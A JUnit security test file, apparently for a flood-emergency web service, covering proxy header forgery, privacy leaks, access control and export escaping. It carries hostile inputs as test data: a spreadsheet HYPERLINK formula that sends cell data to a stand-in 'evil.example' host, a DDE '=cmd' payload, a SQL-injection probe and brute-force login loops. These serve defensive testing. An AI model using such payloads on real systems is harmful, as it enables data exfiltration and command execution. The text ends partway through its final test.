package org.communeatlas.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.zip.ZipInputStream;
import org.communeatlas.accounts.Viewer.Role;
import org.communeatlas.cluster.HaproxyConfig;
import org.communeatlas.testing.Accounts;
import org.communeatlas.testing.DemoServerTest;
import org.communeatlas.testing.EventStream;
import org.communeatlas.testing.Sql;
import org.communeatlas.testing.TestServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The public edge in a flood (issue 26), each finding of the security review tried as its attacker would: forged
 * X-Forwarded-For through a real HAProxy, a phone number turned into a family's home, an officer reading another
 * commune's call, a disabled officer's stream, a flood drawn around one house, a site deleted under a plan, formulas in
 * exports, conversions starving the pool, constraint errors read as outages.
 */
class PublicEdgeTest extends DemoServerTest {

    private static final String TAM_THANG = "20362";
    private static TestServer.Session admin;
    private static TestServer.Session officer;
    private static TestServer.Session stranger;
    /** The same database behind a trusted proxy (127.0.0.1), as the cluster runs its instances. */
    private static TestServer proxied;

    @TempDir
    static Path dir;

    @BeforeAll
    static void accounts() {
        Accounts.create(url, "edge-admin", Role.ADMIN);
        Accounts.create(url, "edge-officer", Role.OFFICER, TAM_THANG);
        Accounts.create(url, "edge-stranger", Role.OFFICER, "20335");
        admin = server.signIn("edge-admin", Accounts.PASSWORD);
        officer = server.signIn("edge-officer", Accounts.PASSWORD);
        stranger = server.signIn("edge-stranger", Accounts.PASSWORD);
        proxied = new TestServer(url, Map.of("ATLAS_TRUSTED_PROXIES", "127.0.0.1"));
    }

    @AfterAll
    static void stopProxied() {
        proxied.close();
    }

    private static int freePort() throws Exception {
        try (var s = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            return s.getLocalPort();
        }
    }

    /** A household of a commune that has a phone no other household shares (the n-th such): id, phone, lon, lat. */
    private static List<Object> familyWithPhone(String commune, int n) {
        return Sql.rows(url, "SELECT h.id, h.phone, ST_X(h.geom), ST_Y(h.geom) FROM household h JOIN village v ON v.id = h.village_id "
                + "JOIN admin_unit a ON a.id = v.commune_id AND a.code = ? WHERE h.phone IS NOT NULL AND (SELECT count(*) FROM household o "
                + "WHERE o.phone IS NOT NULL AND atlas_phone(o.phone) = atlas_phone(h.phone)) = 1 ORDER BY h.id DESC OFFSET ? LIMIT 1", commune, n).get(0);
    }

    /** An anonymous call for help from its own client address (through the trusted proxy: each test's calls are its own). */
    private static HttpResponse<String> anonymousSos(String body, String client) {
        return proxied.request("POST", "/api/sos", body, "Content-Type", "application/json", "X-Forwarded-For", client);
    }

    /**
     * A plain HTTP/1.1 request from {@code from} (a second loopback address stands for a phone: the proxy and the server
     * are 127.0.0.1, trusted; the client is not); the status code.
     */
    private static int fromAddress(String from, String base, String method, String path, String body, String... headers) throws Exception {
        java.net.URI uri = java.net.URI.create(base);
        try (java.net.Socket socket = new java.net.Socket()) {
            socket.bind(new java.net.InetSocketAddress(from, 0));
            socket.connect(new java.net.InetSocketAddress(uri.getHost(), uri.getPort()), 5_000);
            socket.setSoTimeout(30_000);
            byte[] content = body == null ? new byte[0] : body.getBytes(StandardCharsets.UTF_8);
            StringBuilder head = new StringBuilder(method + " " + path + " HTTP/1.1\r\nHost: " + uri.getHost() + ":" + uri.getPort()
                    + "\r\nConnection: close\r\nContent-Length: " + content.length + "\r\n");
            for (int i = 0; i + 1 < headers.length; i += 2) {
                head.append(headers[i]).append(": ").append(headers[i + 1]).append("\r\n");
            }
            var out = socket.getOutputStream();
            out.write(head.append("\r\n").toString().getBytes(StandardCharsets.UTF_8));
            out.write(content);
            out.flush();
            String status = new java.io.BufferedReader(new java.io.InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8)).readLine();
            return Integer.parseInt(status.split(" ")[1]);
        }
    }

    /** A plain HTTP request, as a client outside would send it. */
    private static HttpResponse<String> plain(String base, String method, String path, String body, String... headers) throws Exception {
        var b = java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + path)).timeout(Duration.ofSeconds(30))
                .method(method, body == null ? java.net.http.HttpRequest.BodyPublishers.noBody()
                        : java.net.http.HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
        for (int i = 0; i + 1 < headers.length; i += 2) {
            b.header(headers[i], headers[i + 1]);
        }
        return java.net.http.HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    /** 1. Through HAProxy, a client's own X-Forwarded-For gains it no extra call, no extra guess, and no false address in the audit. */
    @Test
    void aForgedForwardedForThroughHaproxyGainsNothing() throws Exception {
        int port = freePort();
        Path cfg = dir.resolve("haproxy.cfg");
        Files.writeString(cfg, HaproxyConfig.text("127.0.0.1", port, List.of(Integer.parseInt(proxied.base().replaceAll(".*:", "")))));
        Process haproxy = new ProcessBuilder(HaproxyConfig.program(), "-db", "-f", cfg.toString()).redirectErrorStream(true)
                .redirectOutput(dir.resolve("haproxy.log").toFile()).start();
        try {
            String edge = "http://127.0.0.1:" + port;
            long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();
            while (System.nanoTime() < deadline) {
                try {
                    if (plain(edge, "GET", "/health", null).statusCode() == 200) {
                        break;
                    }
                } catch (java.io.IOException notYet) {
                    // HAProxy is still starting
                }
                Thread.sleep(200);
            }
            String body = "{\"address\": \"Thôn 2, Tam Thăng\", \"people\": 3}";
            List<Integer> statuses = new ArrayList<>();
            for (int i = 0; i < 18; i++) {
                statuses.add(fromAddress("127.0.0.2", edge, "POST", "/api/sos", body, "Content-Type", "application/json",
                        "X-Forwarded-For", "10.0." + i + "." + i));
            }
            assertEquals(5, statuses.stream().filter(s -> s == 201).count(), statuses.toString());
            assertTrue(statuses.subList(5, 18).stream().allMatch(s -> s == 429), statuses.toString());
            assertEquals(0, Sql.count(url, "SELECT count(*) FROM audit_log WHERE action = 'sos_create' AND address LIKE '10.0.%'"));
            assertEquals(5, Sql.count(url, "SELECT count(*) FROM audit_log WHERE action = 'sos_create' AND address = '127.0.0.2'"),
                    "the audit keeps the address the proxy heard");

            List<Integer> guesses = new ArrayList<>();
            for (int i = 0; i < 25; i++) {
                guesses.add(fromAddress("127.0.0.2", edge, "POST", "/api/session", "{\"username\": \"guess" + i + "\", \"password\": \"wrong "
                        + "password " + i + "\"}", "Content-Type", "application/json", "X-Forwarded-For", "10.1." + i + ".1"));
            }
            assertTrue(guesses.contains(429), "the address throttle holds whatever the client writes: " + guesses);
            assertTrue(guesses.stream().filter(s -> s == 401).count() <= 20, guesses.toString());
        } finally {
            haproxy.destroy();
            haproxy.waitFor();
        }
        assertTrue(Files.readString(cfg).contains("bind 127.0.0.1:" + port), "the proxy listens on loopback unless told otherwise");
    }

    /** 2. An anonymous call with a listed phone gets back no household point, village, commune or duplicate link. */
    @Test
    void aPhoneNumberNeverBecomesAFamilysHome() {
        List<Object> family = familyWithPhone(TAM_THANG, 0);
        String phone = (String) family.get(1);
        String body = "{\"phone\": \"" + phone + "\", \"people\": 2}";
        HttpResponse<String> first = anonymousSos(body, "198.51.100.2");
        HttpResponse<String> again = anonymousSos(body, "198.51.100.2");
        assertEquals(201, first.statusCode(), first.body());
        assertEquals(201, again.statusCode(), again.body());
        long firstId = TestServer.json(first).get("id").asLong();
        long againId = TestServer.json(again).get("id").asLong();
        // inside, the calls are matched and linked as before: the officers of that commune work from it
        assertEquals("household", Sql.scalar(url, "SELECT located_by FROM sos_request WHERE id = ?", firstId));
        assertEquals(firstId, Sql.scalar(url, "SELECT duplicate_of FROM sos_request WHERE id = ?", againId));
        for (HttpResponse<String> r : List.of(first, again, server.get("/api/sos/" + firstId), server.get("/api/sos/" + againId),
                stranger.get("/api/sos/" + againId))) {
            JsonNode n = TestServer.json(r);
            for (String field : List.of("lon", "lat", "village_code", "village_name", "commune_code", "commune_name", "duplicate_of", "located_by",
                    "household_id", "matched_by", "phone", "name")) {
                assertFalse(n.has(field), field + " in " + r.body());
            }
            assertEquals("received", n.get("state").asText(), r.body());
        }
        for (JsonNode n : TestServer.json(server.get("/api/sos"))) {
            assertFalse(n.has("duplicate_of") || n.has("household_id"), n.toString());
            if (n.get("id").asLong() == firstId) {
                assertFalse(n.has("lon"), n.toString());
            }
        }
        // the caller's reference: quoted on the phone, followed on a page that shows the state and the hotlines
        String reference = TestServer.json(first).get("reference").asText();
        assertTrue(reference.matches("[0-9A-HJKMNP-TV-Z]{8}"), reference);
        assertTrue(first.headers().firstValue("Location").orElse("").endsWith("/sos/" + reference));
        HttpResponse<String> page = server.get("/sos/" + reference.toLowerCase(Locale.ROOT));
        assertEquals(200, page.statusCode(), page.body());
        assertTrue(page.body().contains("Đã nhận") && page.body().contains("112") && page.body().contains(reference), page.body());
        assertFalse(page.body().contains(phone), page.body());
        assertEquals(404, server.get("/sos/ZZZZZZZZ").statusCode());
        assertEquals(400, server.get("/sos/x'or'1").statusCode());
        // the officers of its commune see it all, the reference included
        JsonNode full = TestServer.json(officer.get("/api/sos/" + againId));
        assertEquals(firstId, full.get("duplicate_of").asLong());
        assertEquals(((Number) family.get(0)).longValue(), full.get("household_id").asLong());
        assertEquals(phone.replaceAll("[^0-9]", "").replaceFirst("^84", "0"), full.get("phone").asText());
        assertTrue(full.has("reference"));

        // a call the caller placed shows the place they gave, and its village is the one that point lies in
        double lon = ((Number) family.get(2)).doubleValue() + 0.003, lat = ((Number) family.get(3)).doubleValue();
        HttpResponse<String> placed = anonymousSos(String.format(Locale.ROOT, "{\"lon\": %.6f, \"lat\": %.6f, \"phone\": \"%s\"}", lon, lat,
                phone), "198.51.100.2");
        JsonNode p = TestServer.json(placed);
        assertEquals(lon, p.get("lon").asDouble(), 1e-6);
        Object pointVillage = Sql.scalar(url, "SELECT v.code FROM village v WHERE ST_Intersects(v.geom, ST_SetSRID(ST_MakePoint(?, ?), 4326))",
                lon, lat);
        assertEquals(pointVillage, p.has("village_code") ? p.get("village_code").asText() : null, placed.body());
    }

    /** 3. Officers of another commune cannot read or claim a call: not an unplaced one, nor by matching it to their own household. */
    @Test
    void anOfficerOfAnotherCommuneCannotReadOrClaimACall() {
        HttpResponse<String> unplaced = anonymousSos("{\"address\": \"nhà bà Tư gần chợ\", \"name\": \"Bà Tư\", "
                + "\"note\": \"có người già\", \"people\": 2}", "198.51.100.3");
        long id = TestServer.json(unplaced).get("id").asLong();
        long strangersHousehold = ((Number) Sql.scalar(url, "SELECT h.id FROM household h JOIN village v ON v.id = h.village_id "
                + "JOIN admin_unit a ON a.id = v.commune_id WHERE a.code = '20335' ORDER BY h.id LIMIT 1")).longValue();
        HttpResponse<String> claim = stranger.send("PATCH", "/api/sos/" + id, "{\"household_id\": " + strangersHousehold + "}");
        assertEquals(403, claim.statusCode(), claim.body());
        assertFalse(claim.body().contains("Bà Tư"));
        assertEquals(null, Sql.scalar(url, "SELECT household_id FROM sos_request WHERE id = ?", id), "nothing changed");
        assertFalse(stranger.get("/api/sos/" + id).body().contains("Bà Tư"));

        // a call of Tam Thăng: its own officer may not match it to a household of another commune either
        List<Object> family = familyWithPhone(TAM_THANG, 1);
        HttpResponse<String> local = officer.send("POST", "/api/sos", String.format(Locale.ROOT, "{\"lon\": %.6f, \"lat\": %.6f, \"people\": 4}",
                ((Number) family.get(2)).doubleValue(), ((Number) family.get(3)).doubleValue()));
        long localId = TestServer.json(local).get("id").asLong();
        HttpResponse<String> elsewhere = officer.send("PATCH", "/api/sos/" + localId, "{\"household_id\": " + strangersHousehold + "}");
        assertEquals(400, elsewhere.statusCode(), elsewhere.body());
        assertTrue(elsewhere.body().contains("household_id"), elsewhere.body());
        assertEquals(403, stranger.send("PATCH", "/api/sos/" + localId, "{\"state\": \"verified\"}").statusCode());
        // an admin places the unplaced call, and from then on it is its commune's
        assertEquals(200, admin.send("PATCH", "/api/sos/" + id, "{\"household_id\": " + strangersHousehold + "}").statusCode());
        assertTrue(stranger.get("/api/sos/" + id).body().contains("Bà Tư"));
    }

    /** 4. A disabled user's open stream, and a revoked token's, close within a second. */
    @Test
    void revocationReachesOpenStreams() throws Exception {
        Accounts.create(url, "edge-leaver", Role.OFFICER, TAM_THANG);
        TestServer.Session leaver = server.signIn("edge-leaver", Accounts.PASSWORD);
        try (EventStream stream = new EventStream(server.base(), "Cookie", leaver.cookie());
             EventStream bystander = new EventStream(server.base(), "Cookie", officer.cookie())) {
            assertFalse(stream.awaitEnd(Duration.ofMillis(1_500)), "a live credential keeps its stream");
            Sql.update(url, "UPDATE app_user SET disabled = true WHERE username = 'edge-leaver'");
            long disabled = System.nanoTime();
            assertTrue(stream.awaitEnd(Duration.ofSeconds(3)), "the disabled user's stream is closed");
            long ms = (System.nanoTime() - disabled) / 1_000_000;
            assertTrue(ms < 1_000, "closed after " + ms + " ms");
            assertFalse(bystander.awaitEnd(Duration.ofMillis(1_200)), "another user's stream goes on");
        }
        String token;
        try (var c = java.sql.DriverManager.getConnection(url)) {
            token = org.communeatlas.accounts.TokenStore.issue(c, ((Number) Sql.scalar(url, "SELECT id FROM app_user WHERE username = 'edge-officer'"))
                    .intValue(), "edge-stream");
        }
        try (EventStream byToken = new EventStream(server.base(), "Authorization", "Bearer " + token)) {
            assertFalse(byToken.awaitEnd(Duration.ofMillis(1_200)));
            Sql.update(url, "UPDATE api_token SET revoked_at = now() WHERE name = 'edge-stream'");
            assertTrue(byToken.awaitEnd(Duration.ofSeconds(1)), "the revoked token's stream is closed");
        }
    }

    /** 5. A flood drawn around one house shows anonymous readers nothing of that family; counts of small groups read "< 5". */
    @Test
    void aFloodDrawnAroundOneHouseSinglesNobodyOut() {
        List<Object> house = familyWithPhone(TAM_THANG, 2);
        double lon = ((Number) house.get(2)).doubleValue(), lat = ((Number) house.get(3)).doubleValue();
        double d = 0.00004; // about 4 m each way: an 8 m square
        String square = String.format(Locale.ROOT, "{\"name\": \"ô nhỏ\", \"type\": \"Polygon\", \"coordinates\": [[[%.6f,%.6f],[%.6f,%.6f],"
                + "[%.6f,%.6f],[%.6f,%.6f],[%.6f,%.6f]]]}", lon - d, lat - d, lon + d, lat - d, lon + d, lat + d, lon - d, lat + d, lon - d, lat - d);
        HttpResponse<String> made = officer.send("POST", "/api/floods", square);
        assertEquals(201, made.statusCode(), made.body());
        int small = TestServer.json(made).get("id").asInt();
        for (String path : List.of("/impact", "/households.geojson", "/extent.geojson")) {
            HttpResponse<String> r = server.get("/api/floods/" + small + path);
            assertEquals(403, r.statusCode(), path + " " + r.body());
            assertFalse(r.body().contains("elderly") || r.body().contains("depth_m"), r.body());
            assertEquals(200, officer.get("/api/floods/" + small + path).statusCode(), path);
        }
        // a real flood: anonymous readers see counts of personal fields only over five households or more
        int big = TestServer.json(officer.send("POST", "/api/floods", "{\"scenario\":\"TK-III\"}")).get("id").asInt();
        JsonNode impact = TestServer.json(server.get("/api/floods/" + big + "/impact"));
        int suppressed = 0, shown = 0;
        for (JsonNode v : impact.get("villages")) {
            long households = v.get("households_affected").asLong() + v.at("/weak_houses_nearby/households").asLong(0);
            JsonNode elderly = v.at("/vulnerable/elderly");
            if (elderly.isTextual()) {
                assertEquals("< 5", elderly.asText());
                suppressed++;
            } else {
                assertTrue(households >= 5, v.toString());
                shown++;
            }
        }
        assertTrue(shown > 0, impact.toString());
        JsonNode asOfficer = TestServer.json(officer.get("/api/floods/" + big + "/impact"));
        asOfficer.get("villages").forEach(v -> assertTrue(v.at("/vulnerable/elderly").isNumber(), v.toString()));
        String households = server.get("/api/floods/" + big + "/households.geojson").body();
        assertFalse(households.contains("depth_m") || households.contains("weak_house"), "no house's depth or class to the public");
        assertTrue(officer.get("/api/floods/" + big + "/households.geojson").body().contains("depth_m"));
        System.out.println("issue 26: TK-III villages with personal counts shown " + shown + ", suppressed " + suppressed);
    }

    /** 6. A site the newest plan sends families to is not deleted (409 naming the plan); the sheet never answers 500. */
    @Test
    void aSiteInTheNewestPlanCannotBeDeleted() {
        int flood = TestServer.json(admin.send("POST", "/api/floods", "{\"scenario\":\"TK-II\"}")).get("id").asInt();
        HttpResponse<String> plan = admin.send("POST", "/api/floods/" + flood + "/plan", "{}");
        assertEquals(201, plan.statusCode(), plan.body());
        List<Object> used = Sql.rows(url, "SELECT u.site_id, count(*) FROM evacuation_assignment u WHERE u.plan_id = (SELECT max(id) FROM "
                + "evacuation_plan WHERE flood_id = ?) AND u.site_id IS NOT NULL AND NOT EXISTS (SELECT 1 FROM household h WHERE h.site_id = u.site_id "
                + "OR h.assigned_site_id = u.site_id) AND (SELECT occupancy + reserved FROM evacuation_point WHERE id = u.site_id) = 0 "
                + "GROUP BY u.site_id ORDER BY count(*) DESC LIMIT 1", flood).get(0);
        String item = "/ogc/collections/evacuation_points/items/" + used.get(0);
        String etag = admin.get(item).headers().firstValue("ETag").orElseThrow();
        HttpResponse<String> delete = admin.send("DELETE", item, null, "If-Match", etag);
        assertEquals(409, delete.statusCode(), delete.body());
        assertTrue(delete.body().contains(used.get(1) + " hộ"), delete.body());
        assertEquals(1, Sql.count(url, "SELECT count(*) FROM evacuation_point WHERE id = ?", used.get(0)), "the site is still there");
        // deleted behind the server's back, the commune's sheet still prints
        String commune = (String) Sql.scalar(url, "SELECT a.code FROM evacuation_point p JOIN admin_unit a ON a.id = p.commune_id WHERE p.id = ?",
                used.get(0));
        Sql.update(url, "DELETE FROM evacuation_point WHERE id = ?", used.get(0));
        HttpResponse<String> sheet = admin.get("/api/floods/" + flood + "/plan/sheet?commune=" + commune);
        assertEquals(200, sheet.statusCode(), sheet.body());
        assertTrue(sheet.body().contains("không còn trong dữ liệu"), "the missing site is named");
    }

    /** 7. A formula typed into a call for help or a family's name comes out as text in every export. */
    @Test
    void formulasComeOutAsTextInEveryExport() throws Exception {
        String hyperlink = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Xem\\\")";
        String cmd = "=cmd|' /C calc'!A0";
        HttpResponse<String> sos = anonymousSos("{\"address\": \"Tam Thăng\", \"name\": \"" + hyperlink + "\", \"note\": \""
                + cmd + "\"}", "198.51.100.7");
        assertEquals(201, sos.statusCode(), sos.body());
        String csv = admin.get("/api/exports/sos.csv").body();
        assertTrue(csv.contains("'=HYPERLINK") && csv.contains("'=cmd|"), csv.lines().limit(3).toList().toString());
        assertFalse(csv.lines().anyMatch(l -> l.startsWith("=") || l.contains(",=") || l.contains(",\"=")), "no cell begins with =");

        int flood = TestServer.json(admin.send("POST", "/api/floods", "{\"scenario\":\"TK-III\"}")).get("id").asInt();
        assertEquals(201, admin.send("POST", "/api/floods/" + flood + "/plan", "{}").statusCode());
        Sql.update(url, "UPDATE household SET head_name = ? WHERE id = (SELECT min(household_id) FROM evacuation_assignment WHERE plan_id = "
                + "(SELECT max(id) FROM evacuation_plan WHERE flood_id = ?))", cmd, flood);
        String planCsv = admin.get("/api/floods/" + flood + "/plan.csv").body();
        assertTrue(planCsv.contains("'=cmd|"), "plan.csv");
        assertFalse(planCsv.contains(",=cmd") || planCsv.contains(",\"=cmd"), "plan.csv");
        String xlsx = sheetText(admin.getBytes("/api/exports/sos.xlsx").body());
        assertTrue(xlsx.contains("'=cmd|") && !xlsx.contains(">=cmd|"), "sos.xlsx");
        String planXlsx = sheetText(admin.getBytes("/api/floods/" + flood + "/plan.xlsx").body());
        assertTrue(planXlsx.contains("'=cmd|") && !planXlsx.contains(">=cmd|"), "plan.xlsx");
    }

    /** Every XML text of an .xlsx file (its strings and sheets), to look for a cell's value. */
    private static String sheetText(byte[] xlsx) throws Exception {
        StringBuilder all = new StringBuilder();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
            for (var e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
                if (e.getName().endsWith(".xml")) {
                    all.append(new String(zip.readAllBytes(), StandardCharsets.UTF_8)
                            .replace("&apos;", "'").replace("&amp;", "&").replace("&quot;", "\"").replace("&gt;", ">").replace("&lt;", "<"));
                }
            }
        }
        return all.toString();
    }

    /** 8. 32 concurrent anonymous plan.gpkg requests from 32 clients leave the impact answering in under half a second. */
    @Test
    void conversionsDoNotStarveThePool() throws Exception {
        int flood = TestServer.json(officer.send("POST", "/api/floods", "{\"scenario\":\"TK-III\"}")).get("id").asInt();
        assertEquals(201, officer.send("POST", "/api/floods/" + flood + "/plan", "{}").statusCode());
        assertEquals(200, proxied.get("/api/floods/" + flood + "/impact").statusCode());
        ExecutorService pool = Executors.newFixedThreadPool(32);
        try {
            List<Future<Integer>> gpkg = new ArrayList<>();
            for (int i = 0; i < 32; i++) {
                String client = "203.0.113." + (i + 1);
                gpkg.add(pool.submit(() -> proxied.getBytes("/api/floods/" + flood + "/plan.gpkg", "X-Forwarded-For", client).statusCode()));
            }
            Thread.sleep(300);
            List<Long> impactMs = new ArrayList<>();
            for (int i = 0; i < 5; i++) {
                long t0 = System.nanoTime();
                assertEquals(200, proxied.get("/api/floods/" + flood + "/impact").statusCode());
                impactMs.add((System.nanoTime() - t0) / 1_000_000);
            }
            List<Integer> statuses = new ArrayList<>();
            for (Future<Integer> f : gpkg) {
                statuses.add(f.get());
            }
            System.out.println("issue 26: impact under 32 concurrent plan.gpkg: " + impactMs + " ms; gpkg statuses " + statuses);
            assertTrue(impactMs.stream().sorted().toList().get(2) < 500, "median impact " + impactMs);
            assertTrue(statuses.stream().allMatch(s -> s == 200 || s == 503), statuses.toString());
            assertTrue(statuses.contains(200), statuses.toString());
        } finally {
            pool.shutdownNow();
        }
        // one client's own conversions are capped
        ExecutorService one = Executors.newFixedThreadPool(6);
        try {
            List<Future<HttpResponse<byte[]>>> mine = new ArrayList<>();
            for (int i = 0; i < 6; i++) {
                mine.add(one.submit(() -> proxied.getBytes("/api/floods/" + flood + "/plan.gpkg", "X-Forwarded-For", "203.0.113.200")));
            }
            int refused = 0;
            for (Future<HttpResponse<byte[]>> f : mine) {
                HttpResponse<byte[]> r = f.get();
                if (r.statusCode() == 429) {
                    refused++;
                    assertTrue(r.headers().firstValue("Retry-After").isPresent());
                }
            }
            assertTrue(refused >= 1, "one client's sixth conversion at once is refused");
        } finally {
            one.shutdownNow();
        }
    }

    /** 11. A broken rule of the data is a 409/422, not "database unavailable"; a call of control characters is a 400, never lost. */
    @Test
    void constraintViolationsAreConflictsAndNoCallIsLost() throws Exception {
        List<Object> host = Sql.rows(url, "SELECT p.host_household_id, h.code FROM evacuation_point p JOIN household h ON h.id = p.host_household_id "
                + "JOIN village v ON v.id = h.village_id JOIN admin_unit a ON a.id = v.commune_id WHERE p.host_household_id IS NOT NULL LIMIT 1")
                .stream().findFirst().orElse(null);
        if (host == null) {
            long h = ((Number) Sql.scalar(url, "SELECT id FROM household ORDER BY id LIMIT 1")).longValue();
            Sql.update(url, "UPDATE evacuation_point SET host_household_id = ? WHERE id = (SELECT min(id) FROM evacuation_point)", h);
            host = List.of(h);
        }
        String item = "/ogc/collections/households/items/" + host.get(0);
        String etag = admin.get(item).headers().firstValue("ETag").orElseThrow();
        HttpResponse<String> delete = admin.send("DELETE", item, null, "If-Match", etag);
        assertTrue(delete.statusCode() == 409 || delete.statusCode() == 422, delete.statusCode() + " " + delete.body());
        assertFalse(delete.headers().firstValue("Retry-After").isPresent(), "sent again it would fail again");
        assertTrue(delete.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json"));

        long before = Sql.count(url, "SELECT count(*) FROM sos_request");
        String control = "\\u0001".repeat(1_000);
        HttpResponse<String> noisy = anonymousSos("{\"address\": \"Tam Thăng\", \"note\": \"" + control + "\", \"needs\": \""
                + "\\u0002".repeat(500) + "\", \"name\": \"" + "\\u0003".repeat(200) + "\"}", "198.51.100.9");
        assertEquals(400, noisy.statusCode(), noisy.body());
        assertEquals(before, Sql.count(url, "SELECT count(*) FROM sos_request"));
        // long words in Vietnamese (2,200 characters, 3 bytes each) are stored and announced, the announcement cut to fit
        try (EventStream stream = new EventStream(server.base(), "Cookie", officer.cookie())) {
            List<Object> family = familyWithPhone(TAM_THANG, 3);
            HttpResponse<String> wordy = officer.send("POST", "/api/sos", String.format(Locale.ROOT, "{\"lon\": %.6f, \"lat\": %.6f, \"note\": \"%s\", "
                    + "\"needs\": \"%s\", \"address\": \"%s\", \"name\": \"%s\"}", ((Number) family.get(2)).doubleValue(), ((Number) family.get(3)).doubleValue(),
                    "ở".repeat(1_000), "ữ".repeat(500), "ậ".repeat(500), "ễ".repeat(200)));
            assertEquals(201, wordy.statusCode(), wordy.body());
            long id = TestServer.json(wordy).get("id").asLong();
            assertNotNull(stream.await(e -> e.name().equals("sos") && e.data().contains("\"id\":" + id), Duration.ofSeconds(5)), "announced");
        }
    }

    /** 9. An officer places a site only inside their commune, as PostGIS sees its outline. */
    @Test
    void anOfficerPlacesASiteOnlyInsideTheirCommune() {
        List<Object> elsewhere = Sql.rows(url, "SELECT ST_X(p), ST_Y(p) FROM (SELECT ST_PointOnSurface(geom) p FROM admin_unit WHERE code = '20335' "
                + "AND level = 'commune') x").get(0);
        List<Object> home = Sql.rows(url, "SELECT ST_X(p), ST_Y(p) FROM (SELECT ST_PointOnSurface(geom) p FROM admin_unit WHERE code = ? "
                + "AND level = 'commune') x", TAM_THANG).get(0);
        String site = "{\"type\":\"Feature\",\"geometry\":{\"type\":\"Point\",\"coordinates\":[%s,%s]},\"properties\":{\"code\":\"%s\","
                + "\"name\":\"Nhà văn hóa thử\",\"kind\":\"school\",\"commune_code\":\"" + TAM_THANG + "\",\"capacity_day\":9000,"
                + "\"capacity_night\":9000,\"is_open\":true}}";
        String[] headers = {"Content-Type", "application/geo+json", "X-CSRF-Token", officer.csrf(), "Origin", server.base()};
        HttpResponse<String> astray = officer.request("POST", "/ogc/collections/evacuation_points/items",
                String.format(Locale.ROOT, site, elsewhere.get(0), elsewhere.get(1), "EDGE-ASTRAY"), headers);
        assertEquals(400, astray.statusCode(), astray.body());
        assertEquals("geometry", TestServer.json(astray).get("parameter").asText());
        assertEquals(0, Sql.count(url, "SELECT count(*) FROM evacuation_point WHERE code = 'EDGE-ASTRAY'"), "nothing written");
        HttpResponse<String> inside = officer.request("POST", "/ogc/collections/evacuation_points/items",
                String.format(Locale.ROOT, site, home.get(0), home.get(1), "EDGE-HOME"), headers);
        assertEquals(201, inside.statusCode(), inside.body());
    }

    /** 10. The timeline shows officers another commune's entries without the household or the officer who made them. */
    @Test
    void theTimelineKeepsOtherCommunesHouseholdsAndOfficersToThemselves() {
        int flood = TestServer.json(admin.send("POST", "/api/floods", "{\"scenario\":\"TK-I\"}")).get("id").asInt();
        long theirs = ((Number) Sql.scalar(url, "SELECT h.id FROM household h JOIN village v ON v.id = h.village_id JOIN admin_unit a "
                + "ON a.id = v.commune_id WHERE a.code = '20335' ORDER BY h.id LIMIT 1")).longValue();
        long ours = ((Number) Sql.scalar(url, "SELECT h.id FROM household h JOIN village v ON v.id = h.village_id JOIN admin_unit a "
                + "ON a.id = v.commune_id WHERE a.code = ? ORDER BY h.id LIMIT 1", TAM_THANG)).longValue();
        assertEquals(200, stranger.send("PATCH", "/api/households/" + theirs, "{\"status\": \"isolated\"}").statusCode());
        assertEquals(200, officer.send("PATCH", "/api/households/" + ours, "{\"status\": \"isolated\"}").statusCode());
        JsonNode seen = TestServer.json(officer.get("/api/floods/" + flood + "/timeline"));
        JsonNode foreign = null, own = null;
        for (JsonNode e : seen) {
            if (e.get("action").asText().equals("household_status")) {
                if (!e.has("username")) {
                    foreign = e;
                } else if (e.get("username").asText().equals("edge-officer")) {
                    own = e;
                }
            }
        }
        assertNotNull(foreign, seen.toString());
        assertFalse(foreign.has("entity_id") || foreign.toString().contains("edge-stranger"),
                foreign.toString());
        assertNotNull(own, seen.toString());
        assertEquals(String.valueOf(ours), own.get("entity_id").asText());
        // the other commune's officer reads their own entry whole
        assertTrue(stranger.get("/api/floods/" + flood + "/timeline").body().contains("edge-stranger"));
    }

    /** 12. A named account locked by someone's guesses: an admin clears it, and its owner signs in again. */
    @Test
    void anAdminClearsALockOut() {
        Accounts.create(url, "edge-locked", Role.OFFICER, TAM_THANG);
        String right = "{\"username\": \"edge-locked\", \"password\": \"" + Accounts.PASSWORD + "\"}";
        for (int i = 0; i < 7; i++) {
            proxied.request("POST", "/api/session", "{\"username\": \"edge-locked\", \"password\": \"guess " + i + "\"}", "Content-Type",
                    "application/json", "X-Forwarded-For", "192.0.2." + (i + 1));
        }
        assertEquals(429, proxied.request("POST", "/api/session", right, "Content-Type", "application/json", "X-Forwarded-For", "192.0.2.100")
                .statusCode(), "locked: the right password waits too");
        assertEquals(0, org.communeatlas.Main.run("user", "unlock", "edge-locked", "--db-url", url));
        assertEquals(200, proxied.request("POST", "/api/session", right, "Content-Type", "application/json", "X-Forwarded-For", "192.0.2.100")
                .statusCode());
        assertEquals(1, Sql.count(url, "SELECT count(*) FROM audit_log WHERE action = 'user_unlock'"));
    }

    /** 12. The server's own listening: HAProxy's configuration binds where it is told; the instances behind it on loopback. */
    @Test
    void theClusterListensOnLoopbackUnlessTold() {
        assertTrue(HaproxyConfig.text("127.0.0.1", 7070, List.of(7071)).contains("bind 127.0.0.1:7070"));
        assertTrue(HaproxyConfig.text("0.0.0.0", 7070, List.of(7071)).contains("bind 0.0.0.0:7070"));
